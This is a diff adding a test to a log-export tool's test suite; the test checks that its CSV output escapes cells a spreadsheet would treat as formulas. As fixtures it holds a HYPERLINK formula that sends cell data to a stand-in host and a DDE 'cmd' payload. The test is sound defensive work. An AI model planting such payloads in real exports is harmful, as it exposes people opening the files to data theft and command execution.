@@ -176,3 +176,26 @@ def test_cli_export(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert cli_main(["export", str(log), "--marks", "--output", str(report)]) == 0
     assert "wrote 1 marks to" in capsys.readouterr().err
     assert "> exit of x1" in report.read_text()
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """A forged log can name its computer `=HYPERLINK(...)`: the CSV export must not hand a
+    spreadsheet a formula. Event data stays exact (one JSON object per row, never a formula)."""
+    from tests.logs import event_xml, write_events
+
+    forged = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    log = write_events(tmp_path / "forged.xml", [
+        event_xml(4688, 1, "2024-03-01T10:00:00.0000000Z", {"CommandLine": "=cmd|' /C calc'!A0"}, computer=forged),
+        event_xml(4688, 2, "2024-03-01T10:00:01.0000000Z", {"CommandLine": "-x"}, computer="+WS01", channel="@ch"),
+        event_xml(4688, 3, "2024-03-01T10:00:02.0000000Z", {"CommandLine": "ok"}, computer="WS-01"),
+    ])
+    out = tmp_path / "forged.csv"
+    assert cli_main(["export", str(log), "--format", "csv", "--output", str(out), "--no-cache"]) == 0
+    with out.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["computer"] for r in rows] == ["'" + forged, "'+WS01", "WS-01"]
+    assert rows[1]["channel"] == "'@ch"
+    assert [json.loads(r["data"])["CommandLine"] for r in rows] == ["=cmd|' /C calc'!A0", "-x", "ok"]
+    for r in rows:
+        for cell in r.values():
+            assert not cell.startswith(("=", "+", "-", "@")), cell
